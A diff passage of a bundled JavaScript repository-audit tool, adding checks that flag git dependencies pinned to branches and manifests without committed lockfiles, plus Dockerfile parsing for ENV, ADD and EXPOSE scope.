+    for (const m of text.matchAll(/^[ \t]*\[\[?([^\]\n#]{1,500})\]\]?[ \t]*(?:#[^\n]*)?\r?$/gm)) {
+        out.push(m[1].replace(/[ \t]+/g, ''));
+    }
+    return out;
+}
+/** The body of the `[workspace]` table of a Cargo.toml (up to the next table header), if any. */
+function workspaceTable(text) {
+    const header = /^[ \t]*\[workspace\][ \t]*(?:#[^\n]*)?$/m.exec(text);
+    if (!header)
+        return undefined;
+    const rest = text.slice(header.index + header[0].length);
+    const next = /^[ \t]*\[/m.exec(rest);
+    return next ? rest.slice(0, next.index) : rest;
+}
+/** The strings of a `key = [ "a", 'b' ]` array in a TOML table body (single- or multi-line). */
+function tomlStringArray(table, key) {
+    const m = new RegExp(`^[ \\t]*${key}[ \\t]*=[ \\t]*\\[([^\\]]{0,100000})\\]`, 'm').exec(table);
+    if (!m)
+        return undefined;
+    return [...m[1].matchAll(/"([^"\n]*)"|'([^'\n]*)'/g)].map((s) => s[1] ?? s[2] ?? '');
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/deps/git-refs.js
+
+
+/** Judges a ref: commits and tags (versions) are fixed enough, anything else follows a branch. */
+function judgeRef(dep) {
+    const ref = dep.ref?.trim() ?? '';
+    if (dep.refKey === 'none' || ref === '')
+        return 'default-branch';
+    if (dep.refKey === 'branch')
+        return 'branch';
+    if (dep.refKey === 'tag')
+        return 'tag';
+    if (/^[0-9a-f]{7,40}$/i.test(ref))
+        return 'commit';
+    if (/^semver:|^(?:refs\/tags\/)?v?\d+(?:\.\d+){0,3}(?:[-+][0-9A-Za-z.-]+)?$/.test(ref))
+        return 'tag';
+    return 'branch';
+}
+/** Removes `user:password@` from a URL: a dependency URL may embed a token. */
+function stripUserInfo(url) {
+    return url.replace(/^([a-z][a-z0-9+.-]*:\/\/)[^/@\s]*@/i, '$1');
+}
+const NPM_FIELDS = ['dependencies', 'devDependencies', 'optionalDependencies', 'peerDependencies'];
+const NPM_GIT = /^(?:git\+[a-z]+:\/\/|git:\/\/|git@|(?:github|gitlab|bitbucket|gist):|https?:\/\/\S+\.git(?:#|$))/i;
+/** `owner/repo` or `owner/repo#ref`: npm's GitHub shorthand. */
+const NPM_SHORTHAND = /^[A-Za-z0-9][\w.-]*\/[\w.-]+(?:#.*)?$/;
+/** package.json dependencies given as git URLs or GitHub shorthands. */
+function npmGitDependencies(ws, file) {
+    const pkg = readJson(ws, file);
+    if (!pkg)
+        return [];
+    const doc = ws.yaml(file);
+    const out = [];
+    for (const field of NPM_FIELDS) {
+        const deps = pkg[field];
+        if (!deps || typeof deps !== 'object')
+            continue;
+        for (const [name, spec] of Object.entries(deps)) {
+            if (typeof spec !== 'string' || !(NPM_GIT.test(spec) || NPM_SHORTHAND.test(spec)))
+                continue;
+            const hash = spec.indexOf('#');
+            const span = doc?.ok ? doc.documents[0]?.span(pointer(field, name)) : undefined;
+            out.push({
+                name,
+                url: stripUserInfo(hash === -1 ? spec : spec.slice(0, hash)),
+                line: span?.start.line ?? 1,
+                ...(span ? { column: span.start.column } : {}),
+                refKey: hash === -1 ? 'none' : 'suffix',
+                ...(hash === -1 ? {} : { ref: spec.slice(hash + 1) }),
+            });
+        }
+    }
+    return out;
+}
+/** composer.json requirements on a branch (`dev-main`), unless pinned with `#<commit>`. */
+function composerBranchDependencies(ws, file) {
+    const manifest = readJson(ws, file);
+    if (!manifest)
+        return [];
+    const doc = ws.yaml(file);
+    const out = [];
+    for (const field of ['require', 'require-dev']) {
+        const deps = manifest[field];
+        if (!deps || typeof deps !== 'object')
+            continue;
+        for (const [name, spec] of Object.entries(deps)) {
+            if (typeof spec !== 'string')
+                continue;
+            const m = /^dev-([^#\s]+)(?:#([0-9a-f]{7,40}))?$/i.exec(spec.trim());
+            if (!m || m[2])
+                continue;
+            const span = doc?.ok ? doc.documents[0]?.span(pointer(field, name)) : undefined;
+            out.push({ name, url: name, line: span?.start.line ?? 1, refKey: 'branch', ref: m[1] });
+        }
+    }
+    return out;
+}
+/** `git+https://...@ref#egg=name` and `name @ git+https://...@ref` in pip requirement files. */
+function pipGitDependencies(text) {
+    const out = [];
+    eachLine(text, (line, lineNo) => {
+        if (/^\s*#/.test(line))
+            return;
+        const m = /(?:^|[\s@=])(git\+[a-z]+:\/\/[^\s#;]{1,2000})(?:#(\S{0,500}))?/i.exec(line);
+        if (!m)
+            return;
+        const url = m[1];
+        const tail = url.slice(url.lastIndexOf('/') + 1);
+        const at = tail.lastIndexOf('@');
+        const egg = /(?:^|&)egg=([^&\s]+)/.exec(m[2] ?? '')?.[1];
+        const named = /^\s*([A-Za-z0-9][\w.-]*)\s*(?:\[[^\]]*\])?\s*@/.exec(line)?.[1];
+        out.push({
+            name: named ?? egg ?? tail.replace(/@.*$/, '').replace(/\.git$/, ''),
+            url: stripUserInfo(at === -1 ? url : url.slice(0, url.length - tail.length + at)),
+            line: lineNo,
+            refKey: at === -1 ? 'none' : 'suffix',
+            ...(at === -1 ? {} : { ref: tail.slice(at + 1) }),
+        });
+    });
+    return out;
+}
+/**
+ * Git dependencies in TOML manifests (Cargo.toml, pyproject.toml for Poetry and uv, Pipfile): inline
+ * tables (`foo = { git = "...", branch = "dev" }`) and dependency tables (`[dependencies.foo]` with a
+ * `git` key), with the `branch`, `tag`, `rev` (or Pipfile `ref`) key of the same table.
+ */
+function tomlGitDependencies(text) {
+    const out = [];
+    let table;
+    const flush = () => {
+        if (table?.keys.has('git'))
+            out.push(fromKeys(table.name, table.keys, table.gitLine));
+        table = undefined;
+    };
+    eachLine(text, (line, lineNo) => {
+        const header = /^\s*\[\[?([^\]#]{1,300})\]\]?\s*(?:#.*)?$/.exec(line);
+        if (header) {
+            flush();
+            const parts = header[1].trim().split('.');
+            table = { name: parts[parts.length - 1].replace(/["']/g, ''), keys: new Map(), gitLine: 0 };
+            return;
+        }
+        const inline = /^\s*["']?([\w.-]+)["']?\s*=\s*\{([^}]{0,2000})\}/.exec(line);
+        if (inline && /(?:^|[\s,])git\s*=/.test(inline[2])) {
+            out.push(fromKeys(inline[1], tomlKeys(inline[2]), lineNo));
+            return;
+        }
+        const kv = /^\s*(git|branch|tag|rev|ref)\s*=\s*["']([^"'\n]{0,2000})["']/.exec(line);
+        if (kv && table) {
+            table.keys.set(kv[1], kv[2]);
+            if (kv[1] === 'git')
+                table.gitLine = lineNo;
+        }
+    });
+    flush();
+    return out;
+}
+function tomlKeys(body) {
+    const keys = new Map();
+    for (const m of body.matchAll(/(?:^|[\s,])(git|branch|tag|rev|ref)\s*=\s*["']([^"']{0,2000})["']/g)) {
+        keys.set(m[1], m[2]);
+    }
+    return keys;
+}
+function fromKeys(name, keys, line) {
+    const key = ['branch', 'tag', 'rev', 'ref'].find((k) => keys.has(k));
+    return {
+        name,
+        url: stripUserInfo(keys.get('git') ?? ''),
+        line,
+        refKey: key === undefined ? 'none' : key === 'ref' ? 'suffix' : key,
+        ...(key === undefined ? {} : { ref: keys.get(key) }),
+    };
+}
+/** `gem "x", git: "...", branch: "main"`, `github: "o/r"` and `git "url", branch: ... do` blocks. */
+function gemfileGitDependencies(text) {
+    const out = [];
+    eachLine(text, (line, lineNo) => {
+        if (/^\s*#/.test(line))
+            return;
+        const source = /(?:^|[\s,(]):?(git|github)["']?\s*(?::(?!:)|=>)\s*["']([^"'\n]{1,2000})["']/.exec(line) ??
+            /^\s*(git|github)\s*\(?\s*["']([^"'\n]{1,2000})["']/.exec(line);
+        if (!source)
+            return;
+        const name = /^\s*gem\s*\(?\s*["']([^"'\n]{1,200})["']/.exec(line)?.[1] ?? source[2];
+        const ref = /(?:^|[\s,(]):?(branch|ref|tag)["']?\s*(?::(?!:)|=>)\s*["']([^"'\n]{0,500})["']/.exec(line);
+        out.push({
+            name,
+            url: stripUserInfo(source[1] === 'github' ? `github:${source[2]}` : source[2]),
+            line: lineNo,
+            refKey: ref ? (ref[1] === 'ref' ? 'suffix' : ref[1]) : 'none',
+            ...(ref ? { ref: ref[2] } : {}),
+        });
+    });
+    return out;
+}
+function eachLine(text, visit) {
+    let start = 0;
+    for (let lineNo = 1; start <= text.length; lineNo++) {
+        let end = text.indexOf('\n', start);
+        if (end === -1)
+            end = text.length;
+        visit(text.slice(start, Math.min(end, start + 20_000)), lineNo);
+        start = end + 1;
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/deps/git-branch.js
+
+
+
+
+/** The reader for each manifest name. */
+function readerFor(name) {
+    if (name === 'package.json')
+        return npmGitDependencies;
+    if (name === 'composer.json')
+        return composerBranchDependencies;
+    if (/^(?:requirements|constraints).*\.(?:txt|in)$/.test(name))
+        return (ws, f) => pipGitDependencies(ws.text(f) ?? '');
+    if (name === 'Cargo.toml' || name === 'pyproject.toml' || name === 'Pipfile') {
+        return (ws, f) => tomlGitDependencies(ws.text(f) ?? '');
+    }
+    if (name === 'Gemfile' || name === 'gems.rb')
+        return (ws, f) => gemfileGitDependencies(ws.text(f) ?? '');
+    return undefined;
+}
+/**
+ * `deps.git-branch`: dependencies fetched from a git repository that follow a branch (named, or the
+ * default branch when no ref is given) instead of a commit or a version tag: npm (git URLs and GitHub
+ * shorthands), pip requirement files, Poetry/uv/Pipfile and Cargo TOML tables, Bundler and Composer
+ * `dev-` branches. Whatever is pushed to that branch is installed on the next resolve, unreviewed.
+ */
+const depsGitBranch = defineEvaluator({
+    kind: 'deps.git-branch',
+    summary: 'Git dependencies that follow a branch instead of a commit or tag (npm, pip, Poetry, uv, Cargo, Bundler, Composer).',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            exclude: globList('Globs of manifests to ignore. Setting it replaces the defaults.', {
+                default: [
+                    '**/node_modules/**',
+                    '**/vendor/**',
+                    '**/fixtures/**',
+                    '**/__fixtures__/**',
+                    '**/testdata/**',
+                ],
+            }),
+        },
+    },
+    evaluate({ options, workspace }) {
+        const excluded = options.exclude.length > 0 ? workspace.matcher(options.exclude) : () => false;
+        const findings = [];
+        for (const file of workspace.files) {
+            const read = readerFor(posix_namespaceObject.basename(file));
+            if (!read || excluded(file))
+                continue;
+            for (const dep of read(workspace, file)) {
+                const kind = judgeRef(dep);
+                if (kind === 'commit' || kind === 'tag')
+                    continue;
+                const follows = kind === 'branch' ? `the branch "${dep.ref}"` : 'the default branch (no ref is given)';
+                const source = dep.url && dep.url !== dep.name ? ` of ${dep.url}` : '';
+                findings.push({
+                    message: `Dependency "${dep.name}" follows ${follows}${source}: every install can get different, ` +
+                        'unreviewed code. Pin a full commit SHA or a release tag.',
+                    location: {
+                        path: file,
+                        startLine: dep.line,
+                        ...(dep.column ? { startColumn: dep.column } : {}),
+                    },
+                    key: `${dep.name}\u0000${dep.url}\u0000${dep.ref ?? ''}`,
+                });
+            }
+        }
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/repo/deps-lockfile.js
+
+
+
+
+
+
+const ECOSYSTEMS = ['npm', 'python', 'ruby', 'rust', 'php', 'go'];
+const NPM_LOCKS = [
+    'package-lock.json',
+    'npm-shrinkwrap.json',
+    'yarn.lock',
+    'pnpm-lock.yaml',
+    'bun.lock',
+    'bun.lockb',
+];
+const PY_LOCKS = ['poetry.lock', 'uv.lock', 'pdm.lock'];
+/**
+ * `deps.lockfile`: every package manifest that declares dependencies has a lockfile beside it, or in
+ * the ancestor directory that is its workspace root (npm/yarn/bun `workspaces`, pnpm-workspace.yaml,
+ * a Cargo `[workspace]`, a uv workspace). Without a lockfile, each install resolves version ranges
+ * anew, so builds are neither reproducible nor reviewable.
+ */
+const depsLockfile = defineEvaluator({
+    kind: 'deps.lockfile',
+    summary: 'Package manifests with dependencies have a committed lockfile (npm, Python, Ruby, Rust, PHP, Go).',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            ecosystems: {
+                type: 'array',
+                uniqueItems: true,
+                items: { enum: [...ECOSYSTEMS] },
+                default: [...ECOSYSTEMS],
+                description: 'Ecosystems to check.',
+            },
+            exclude: globList('Globs of manifests to ignore: vendored code, installed packages and test fixtures. Setting it ' +
+                'replaces the defaults.', {
+                default: [
+                    '**/node_modules/**',
+                    '**/vendor/**',
+                    '**/bower_components/**',
+                    '**/fixtures/**',
+                    '**/__fixtures__/**',
+                    '**/testdata/**',
+                ],
+            }),
+        },
+    },
+    evaluate({ options, workspace }) {
+        const excluded = options.exclude.length > 0 ? workspace.matcher(options.exclude) : () => false;
+        const wanted = new Set(options.ecosystems);
+        const findings = [];
+        for (const file of workspace.files) {
+            if (excluded(file))
+                continue;
+            const name = posix_namespaceObject.basename(file);
+            const parent = posix_namespaceObject.dirname(file);
+            const dir = parent === '.' ? '' : parent;
+            const req = requirementFor(workspace, name, file, dir, wanted);
+            if (!req)
+                continue;
+            if (req.dirs.some((d) => req.locks.some((lock) => workspace.has(deps_lockfile_join(d, lock)))))
+                continue;
+            const roots = req.dirs.slice(1).map((d) => d || 'the repository root');
+            const where = roots.length > 0 ? ` beside it or in its workspace root (${roots.join(', ')})` : ' beside it';
+            findings.push({
+                message: `${file} declares dependencies but no lockfile is committed${where}: expected ` +
+                    `${orList(req.locks.map((l) => `\`${l}\``))}.`,
+                location: fileLocation(file),
+                key: name,
+            });
+        }
+        return findings;
+    },
+});
+function requirementFor(ws, name, file, dir, wanted) {
+    switch (name) {
+        case 'package.json': {
+            if (!wanted.has('npm'))
+                return undefined;
+            const pkg = readJson(ws, file);
+            if (!packageJsonNeedsLock(pkg))
+                return undefined;
+            return { locks: preferredFirst(NPM_LOCKS, pkg), dirs: [dir, ...npmWorkspaceRoots(ws, dir)] };
+        }
+        case 'Pipfile':
+            return wanted.has('python') ? { locks: ['Pipfile.lock'], dirs: [dir] } : undefined;
+        case 'pyproject.toml': {
+            if (!wanted.has('python'))
+                return undefined;
+            const tool = pyprojectTool(ws.text(file) ?? '');
+            if (!tool)
+                return undefined;
+            const primary = `${tool}.lock`;
+            return {
+                locks: [primary, ...PY_LOCKS.filter((l) => l !== primary)],
+                dirs: [dir, ...uvWorkspaceRoots(ws, dir)],
+            };
+        }
+        case 'Gemfile':
+            return wanted.has('ruby') ? { locks: ['Gemfile.lock'], dirs: [dir] } : undefined;
+        case 'gems.rb':
+            return wanted.has('ruby') ? { locks: ['gems.locked'], dirs: [dir] } : undefined;
+        case 'Cargo.toml': {
+            if (!wanted.has('rust') || !cargoNeedsLock(ws.text(file) ?? ''))
+                return undefined;
+            return { locks: ['Cargo.lock'], dirs: [dir, ...cargoWorkspaceRoots(ws, dir)] };
+        }
+        case 'composer.json':
+            return wanted.has('php') && composerNeedsLock(readJson(ws, file))
+                ? { locks: ['composer.lock'], dirs: [dir] }
+                : undefined;
+        case 'go.mod':
+            return wanted.has('go') && goModNeedsSum(ws.text(file) ?? '')
+                ? { locks: ['go.sum'], dirs: [dir] }
+                : undefined;
+        default:
+            return undefined;
+    }
+}
+/** Ancestors of `dir`, nearest first ("" is the repository root). */
+function ancestors(dir) {
+    const out = [];
+    let current = dir;
+    while (current !== '') {
+        current = posix_namespaceObject.dirname(current) === '.' ? '' : posix_namespaceObject.dirname(current);
+        out.push(current);
+    }
+    return out;
+}
+function deps_lockfile_join(dir, name) {
+    return dir ? `${dir}/${name}` : name;
+}
+/** Ancestors whose workspace globs (package.json `workspaces`, pnpm-workspace.yaml) include `dir`. */
+function npmWorkspaceRoots(ws, dir) {
+    return ancestors(dir).filter((root) => {
+        const rel = root ? dir.slice(root.length + 1) : dir;
+        const globs = [];
+        const pkg = readJson(ws, deps_lockfile_join(root, 'package.json'));
+        const declared = pkg?.workspaces;
+        if (Array.isArray(declared))
+            globs.push(...declared.filter((g) => typeof g === 'string'));
+        else if (declared && typeof declared === 'object') {
+            const packages = declared.packages;
+            if (Array.isArray(packages))
+                globs.push(...packages.filter((g) => typeof g === 'string'));
+        }
+        const pnpm = ws.has(deps_lockfile_join(root, 'pnpm-workspace.yaml'))
+            ? ws.yaml(deps_lockfile_join(root, 'pnpm-workspace.yaml'))
+            : undefined;
+        const pnpmPackages = pnpm?.ok
+            ? pnpm.documents[0]?.value?.packages
+            : undefined;
+        if (Array.isArray(pnpmPackages))
+            globs.push(...pnpmPackages.filter((g) => typeof g === 'string'));
+        return globs.length > 0 && matchesWorkspaceGlobs(rel, globs);
+    });
+}
+/** Workspace globs with `!` negations, as npm, yarn and pnpm read them. */
+function matchesWorkspaceGlobs(rel, globs) {
+    const clean = (g) => g.replace(/^\.\//, '').replace(/\/+$/, '');
+    const include = globs.filter((g) => !g.startsWith('!')).map(clean);
+    const exclude = globs.filter((g) => g.startsWith('!')).map((g) => clean(g.slice(1)));
+    if (include.length === 0)
+        return false;
+    return (picomatch(include, { dot: true })(rel) && !(exclude.length > 0 && picomatch(exclude, { dot: true })(rel)));
+}
+/**
+ * Cargo walks up to the nearest manifest with a `[workspace]` table, which must list the member in
+ * `members` (globs) and not in `exclude`. A table without `members` is trusted (path dependencies are
+ * implicit members).
+ */
+function cargoWorkspaceRoots(ws, dir) {
+    return ancestors(dir).filter((root) => {
+        const table = workspaceTable(ws.text(deps_lockfile_join(root, 'Cargo.toml')) ?? '');
+        if (!table)
+            return false;
+        const rel = root ? dir.slice(root.length + 1) : dir;
+        const members = tomlStringArray(table, 'members');
+        if (!members)
+            return true;
+        const excluded = tomlStringArray(table, 'exclude') ?? [];
+        return matchesWorkspaceGlobs(rel, [...members, ...excluded.map((g) => `!${g}`)]);
+    });
+}
+/** uv keeps one uv.lock at the root that declares `[tool.uv.workspace]`. */
+function uvWorkspaceRoots(ws, dir) {
+    return ancestors(dir).filter((root) => /^[ \t]*\[tool\.uv\.workspace\][ \t]*(?:#.*)?$/m.test(ws.text(deps_lockfile_join(root, 'pyproject.toml')) ?? ''));
+}
+/** The lockfile each `packageManager` writes; a Map, since the key comes from an untrusted file. */
+const MANAGER_LOCKS = new Map([
+    ['npm', 'package-lock.json'],
+    ['yarn', 'yarn.lock'],
+    ['pnpm', 'pnpm-lock.yaml'],
+    ['bun', 'bun.lock'],
+]);
+/** Puts the lockfile of the declared `packageManager` (e.g. "pnpm@9.1.0") first, for the message. */
+function preferredFirst(locks, pkg) {
+    const manager = typeof pkg?.packageManager === 'string' ? pkg.packageManager.split('@')[0] : undefined;
+    const first = manager ? MANAGER_LOCKS.get(manager) : undefined;
+    return first ? [first, ...locks.filter((l) => l !== first)] : [...locks];
 }
 
 // EXTERNAL MODULE: ./node_modules/dockerfile-ast/lib/main.js
@@ -23304,9 +33426,25 @@ var main = __nccwpck_require__(8390);
  * dropped; the escape and the line break are removed without adding a space.
  */
 function joinContinuations(raw, escapeChar) {
+    return joinContinuationsWithOffsets(raw, escapeChar).text;
+}
+/**
+ * {@link joinContinuations}, also returning for each character of the joined text its offset in
+ * `raw`, so that a match in the joined command can be located on its physical line.
+ */
+function joinContinuationsWithOffsets(raw, escapeChar) {
     const lines = raw.split('\n');
-    let out = '';
+    let text = '';
+    const offsets = [];
+    const append = (s, from) => {
+        text += s;
+        for (let k = 0; k < s.length; k++)
+            offsets.push(from + k);
+    };
+    let lineStart = 0;
     for (let i = 0; i < lines.length; i++) {
+        const start = lineStart;
+        lineStart += lines[i].length + 1;
         const line = lines[i].endsWith('\r') ? lines[i].slice(0, -1) : lines[i];
         if (i > 0) {
             const trimmed = line.trimStart();
@@ -23315,14 +33453,14 @@ function joinContinuations(raw, escapeChar) {
         }
         const body = line.replace(/[ \t]+$/, '');
         if (body.endsWith(escapeChar)) {
-            out += body.slice(0, -escapeChar.length);
+            append(body.slice(0, -escapeChar.length), start);
         }
         else {
-            out += line;
+            append(line, start);
             break;
         }
     }
-    return out;
+    return { text, offsets };
 }
 /**
  * Splits on unquoted blanks and removes quotes and escapes, as Docker does for ARG, USER and FROM
@@ -23469,7 +33607,104 @@ function matchingBrace(text, open) {
     return -1;
 }
 
+;// CONCATENATED MODULE: ./lib/core/parsers/dockerfile-scope.js
+
+/** Variables in force while reading one stage. */
+class StageScope {
+    globals;
+    escapeChar;
+    vars;
+    constructor(globals, inheritedEnv = new Map(), escapeChar = '\\') {
+        this.globals = globals;
+        this.escapeChar = escapeChar;
+        this.vars = new Map(inheritedEnv);
+    }
+    /** `ARG name[=default]` inside the stage. */
+    declareArg(name, value) {
+        if (value !== null)
+            this.vars.set(name, this.expand(value));
+        else if (!this.vars.has(name))
+            this.vars.set(name, this.globals.get(name) ?? null);
+    }
+    /** `ENV name=value`: the value is expanded with what is in force before this instruction. */
+    declareEnv(name, value) {
+        this.vars.set(name, this.expand(value));
+    }
+    expand(text) {
+        return expandVariables(text, this.vars, this.escapeChar).text;
+    }
+    /** The ENV values at the end of the stage, for stages built FROM this one. */
+    envSnapshot(envNames) {
+        const out = new Map();
+        for (const name of envNames) {
+            const v = this.vars.get(name);
+            if (typeof v === 'string')
+                out.set(name, v);
+        }
+        return out;
+    }
+}
+/** Reads the declarations of an ENV instruction (and records them in the scope, in order). */
+function readEnv(ins, scope, spanOf) {
+    const out = [];
+    for (const p of ins.getProperties()) {
+        const name = p.getName();
+        const value = p.getValue() ?? '';
+        const start = p.getNameRange().start;
+        const range = { start, end: p.getValueRange()?.end ?? p.getNameRange().end };
+        const span = spanOf(range);
+        out.push({ name, value, span, at: span.start });
+        scope.declareEnv(name, value);
+    }
+    return out;
+}
+/** Reads an ADD instruction in shell or exec (JSON) form. */
+function readAdd(ins, scope, spanOf) {
+    const flags = new Map();
+    for (const f of ins.getFlags())
+        flags.set(f.getName().toLowerCase(), f.getValue());
+    const json = ins.getJSONStrings();
+    const words = json.length > 0
+        ? json.map((a) => ({ value: unquoteJson(a.getValue()), range: a.getRange() }))
+        : ins.getArguments().map((a) => ({ value: a.getValue(), range: a.getRange() }));
+    const sources = words.slice(0, -1).map((w) => ({
+        written: w.value,
+        resolved: scope.expand(w.value),
+        span: spanOf(w.range),
+    }));
+    return { span: spanOf(ins.getRange()), flags, sources };
+}
+/** The ports of an EXPOSE instruction, each resolved in the stage's scope. */
+function readExpose(ins, scope, spanOf) {
+    return ins.getArguments().map((a) => ({
+        written: a.getValue(),
+        resolved: scope.expand(a.getValue()),
+        span: spanOf(a.getRange()),
+    }));
+}
+function unquoteJson(text) {
+    try {
+        const v = JSON.parse(text);
+        return typeof v === 'string' ? v : text;
+    }
+    catch {
+        return text.replace(/^"|"$/g, '');
+    }
+}
+/**
+ * Maps an index in a RUN instruction's joined text (continuations removed) back to its position in
+ * the file, so a finding inside a multi-line RUN is reported on the physical line that holds it.
+ */
+function runPosition(rawArgs, rawOffset, escapeChar, lines, index) {
+    // Heredocs are kept as written (see runText), so their indexes are already raw offsets.
+    const heredoc = /<<-?["']?[A-Za-z_]/.test(rawArgs);
+    const offsets = heredoc ? undefined : joinContinuationsWithOffsets(rawArgs, escapeChar).offsets;
+    const inRaw = offsets ? (offsets[Math.min(index, offsets.length - 1)] ?? 0) : index;
+    return lines.position(rawOffset + inRaw);
+}
+
 ;// CONCATENATED MODULE: ./lib/core/parsers/dockerfile.js
+
 
 
 
@@ -23477,7 +33712,8 @@ function matchingBrace(text, open) {
  * A model of Dockerfiles built on `dockerfile-ast`, which implements Docker's own lexing: line
  * continuations (with comment lines inside them), the `escape` parser directive, heredocs (`RUN
  * <<EOF`, whose body is not parsed as instructions) and exact ranges. On top of it this module keeps
- * only what audits need: stages, ARG defaults, USER and RUN instructions, all with 1-based spans.
+ * only what audits need: stages, ARG defaults, ENV, USER, RUN, ADD and EXPOSE instructions, all with
+ * 1-based spans, and values resolved in Docker's variable scope (dockerfile-scope.ts).
  */
 /** Dockerfile and Containerfile naming conventions (`Dockerfile.dev`, `api.Dockerfile`, ...). */
 const DOCKERFILE_GLOBS = [
@@ -23514,24 +33750,56 @@ function parseDockerfile(path, text, lines = new LineIndex(text)) {
         escapeChar,
         globalArgs: [],
         stages: [],
+        lines,
     };
     let stage;
+    let scope;
+    let globals;
+    // ENV values at the end of each stage, and the names each stage set, for stages built FROM it.
+    const envAtEnd = [];
+    let envNames = new Set();
+    const closeStage = () => {
+        if (scope)
+            envAtEnd.push(scope.envSnapshot(envNames));
+    };
     for (const ins of parsed.getInstructions()) {
         const keyword = ins.getKeyword();
         if (keyword === 'FROM') {
+            closeStage();
+            globals ??= globalArgValues(model);
             stage = {
                 index: model.stages.length,
                 from: readFrom(ins, spanOf),
                 args: [],
                 users: [],
                 runs: [],
+                envs: [],
+                adds: [],
+                exposes: [],
             };
+            const parent = inheritedStage(model, stage, globals);
+            scope = new StageScope(globals, parent ? envAtEnd[parent.index] : undefined, escapeChar);
+            envNames = new Set(parent ? envAtEnd[parent.index]?.keys() : []);
             model.stages.push(stage);
             continue;
         }
         if (keyword === 'ARG') {
             const args = readArgs(ins, escapeChar, spanOf(ins.getRange()));
             (stage ? stage.args : model.globalArgs).push(...args);
+            for (const a of stage ? args : [])
+                scope?.declareArg(a.name, a.value);
+        }
+        else if (stage && scope && keyword === 'ENV') {
+            const envs = readEnv(ins, scope, spanOf);
+            stage.envs.push(...envs);
+            for (const e of envs)
+                envNames.add(e.name);
+        }
+        else if (stage && scope && keyword === 'ADD') {
+            stage.adds.push(readAdd(ins, scope, spanOf));
+        }
+        else if (stage && scope && keyword === 'EXPOSE') {
+            stage.exposes.push(...readExpose(ins, scope, spanOf));
         }
         else if (stage && keyword === 'USER') {
             const [first] = splitWords(joinContinuations(ins.getRawArgumentsContent() ?? '', escapeChar), escapeChar);
@@ -23539,10 +33807,26 @@ function parseDockerfile(path, text, lines = new LineIndex(text)) {
                 stage.users.push(withArgs({ value: first, span: spanOf(ins.getRange()) }, ins, spanOf));
         }
         else if (stage && keyword === 'RUN') {
-            stage.runs.push(withArgs({ value: runText(ins, source, lines, escapeChar), span: spanOf(ins.getRange()) }, ins, spanOf));
+            stage.runs.push(withArgs(readRun(ins, source, lines, escapeChar), ins, spanOf));
         }
     }
     return model;
+}
+/**
+ * The file position of `index` in a RUN's `value` (its joined command), so a finding about one
+ * command of a multi-line RUN points at the physical line that holds it.
+ */
+function positionInRun(model, run, index) {
+    if (run.raw === undefined || run.rawOffset === undefined)
+        return run.span.start;
+    return runPosition(run.raw, run.rawOffset, model.escapeChar, model.lines, index);
+}
+/** The earlier stage a FROM builds on (inheriting its ENV), resolving global ARGs in the image. */
+function inheritedStage(model, stage, globals) {
+    if (!stage.from.image)
+        return undefined;
+    const { text } = expandVariables(stage.from.image, globals, model.escapeChar);
+    return text.includes(UNRESOLVED) ? undefined : referencedStage(model, stage, text);
 }
 /** Final stage of a model, i.e. the image that is built by default. */
 function finalStage(model) {
@@ -23609,13 +33893,16 @@ function readArgs(ins, escapeChar, span) {
         return [{ name, value: eq === -1 ? null : word.slice(eq + 1), span }];
     });
 }
-function runText(ins, source, lines, escapeChar) {
+function readRun(ins, source, lines, escapeChar) {
+    const span = toSpan(ins.getRange(), lines);
     const range = ins.getArgumentsRange();
     if (!range)
-        return '';
-    const raw = source.slice(offset(range.start, lines), offset(range.end, lines));
+        return { value: '', span };
+    const rawOffset = offset(range.start, lines);
+    const raw = source.slice(rawOffset, offset(range.end, lines));
     // A heredoc body is a script of its own: its lines are not Dockerfile continuations.
-    return /<<-?["']?[A-Za-z_]/.test(raw) ? raw : joinContinuations(raw, escapeChar);
+    const value = /<<-?["']?[A-Za-z_]/.test(raw) ? raw : joinContinuations(raw, escapeChar);
+    return { value, span, raw, rawOffset };
 }
 function withArgs(out, ins, spanOf) {
     const args = ins.getArgumentsRange();
@@ -23632,6 +33919,458 @@ function toSpan(range, lines) {
 function offset(pos, lines) {
     return Math.min(lines.lineStart(pos.line + 1) + pos.character, lines.length);
 }
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/deps/ecosystems.js
+
+
+
+/**
+ * Which package ecosystems a repository uses, and where: one entry per manifest that declares
+ * something to update. Ecosystem names are Dependabot's `package-ecosystem` values; each manifest
+ * also names the Renovate managers that read it.
+ */
+const ECOSYSTEM_NAMES = (/* unused pure expression or super */ null && ([
+    'npm',
+    'pip',
+    'gomod',
+    'cargo',
+    'maven',
+    'gradle',
+    'bundler',
+    'composer',
+    'nuget',
+    'docker',
+    'github-actions',
+]));
+const hasText = (re) => (ws, file) => re.test(ws.text(file) ?? '');
+const KINDS = [
+    {
+        ecosystem: 'npm',
+        managers: ['npm'],
+        matches: (n) => n === 'package.json',
+        declares: (ws, f) => packageJsonNeedsLock(readJson(ws, f)),
+    },
+    {
+        ecosystem: 'pip',
+        managers: ['pip_requirements', 'pip-compile'],
+        matches: (n) => /^requirements.*\.(?:txt|in)$/.test(n),
+        declares: hasText(/^[ \t]*[A-Za-z0-9-]/m),
+    },
+    { ecosystem: 'pip', managers: ['pipenv'], matches: (n) => n === 'Pipfile' },
+    {
+        ecosystem: 'pip',
+        managers: ['pip_setup'],
+        matches: (n) => n === 'setup.py',
+        declares: hasText(/install_requires/),
+    },
+    {
+        ecosystem: 'pip',
+        managers: ['setup-cfg'],
+        matches: (n) => n === 'setup.cfg',
+        declares: hasText(/^[ \t]*install_requires[ \t]*=/m),
+    },
+    {
+        ecosystem: 'pip',
+        managers: ['pep621', 'poetry', 'pep723'],
+        matches: (n) => n === 'pyproject.toml',
+        declares: (ws, f) => {
+            const text = ws.text(f) ?? '';
+            return (/^[ \t]*(?:dependencies|requires)[ \t]*=[ \t]*\[[ \t]*\S/m.test(text) ||
+                tomlTableHeaders(text).some((h) => /^tool\.poetry\.(?:dev-)?dependencies$|\.dependencies$/.test(h)));
+        },
+    },
+    {
+        ecosystem: 'gomod',
+        managers: ['gomod'],
+        matches: (n) => n === 'go.mod',
+        declares: (ws, f) => goModNeedsSum(ws.text(f) ?? ''),
+    },
+    {
+        ecosystem: 'cargo',
+        managers: ['cargo'],
+        matches: (n) => n === 'Cargo.toml',
